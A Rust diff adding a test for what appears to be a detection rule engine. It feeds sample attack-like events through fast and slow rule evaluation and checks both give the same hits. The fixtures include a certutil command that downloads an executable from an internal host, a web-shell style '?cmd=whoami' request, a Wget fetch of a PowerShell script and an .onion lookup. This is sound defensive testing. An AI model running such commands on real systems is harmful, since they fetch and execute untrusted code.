@@ -400,3 +400,81 @@ fn matching_does_not_depend_on_scratch_reuse() {
         assert_eq!(out.len(), usize::from(i % 2 == 0));
     }
 }
+
+#[test]
+fn group_dispatch_finds_what_evaluating_every_group_finds() {
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
+    let fast = RuleSet::load_dir(&dir);
+    let mut slow = RuleSet::load_dir(&dir);
+    slow.without_dispatch();
+    let mut syslog = event(
+        5,
+        "health",
+        &[
+            ("log.syslog.priority", Value::from(38)),
+            ("process.name", Value::from("sshd")),
+            (
+                "message",
+                Value::from("error: PAM: Authentication failure for illegal user admin"),
+            ),
+        ],
+    );
+    syslog.fields.original = Some("<38>Jan 1 00:00:00 h sshd[1]: x".into());
+    let mut cisco = event(
+        6,
+        "transport",
+        &[(
+            "message",
+            Value::from("User:admin  logged command:no dot1x port-control"),
+        )],
+    );
+    cisco.fields.original = Some(
+        "<189>1: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:no dot1x port-control"
+            .into(),
+    );
+    let events = [
+        proc_event(
+            "C:\\Windows\\System32\\certutil.exe",
+            "certutil -urlcache -f http://10.0.0.1/a.exe a.exe",
+        ),
+        proc_event("C:\\x\\svchost.exe", "svchost -k netsvcs"),
+        fw(1, "energy", "203.0.113.9", "10.0.0.1", 3306),
+        event(
+            2,
+            "energy",
+            &[
+                ("event.dataset", Value::from("zeek.dns")),
+                ("dns.question.name", Value::from("x.onion")),
+                ("source.ip", Value::from("10.0.0.2")),
+            ],
+        ),
+        event(
+            3,
+            "energy",
+            &[
+                ("event.dataset", Value::from("zeek.http")),
+                ("url.original", Value::from("/x.ps1")),
+                ("user_agent.original", Value::from("Wget/1.0")),
+                ("http.request.method", Value::from("GET")),
+            ],
+        ),
+        event(
+            4,
+            "energy",
+            &[
+                ("event.dataset", Value::from("apache.access")),
+                ("url.original", Value::from("/index.php?cmd=whoami")),
+                ("message", Value::from("GET /index.php?cmd=whoami")),
+            ],
+        ),
+        syslog,
+        cisco,
+    ];
+    let mut total = 0;
+    for e in &events {
+        let (a, b) = (hits(&fast, e), hits(&slow, e));
+        assert_eq!(a, b, "{e:?}");
+        total += a.len();
+    }
+    assert!(total >= 3, "the sample events fire some rules ({total})");
+}
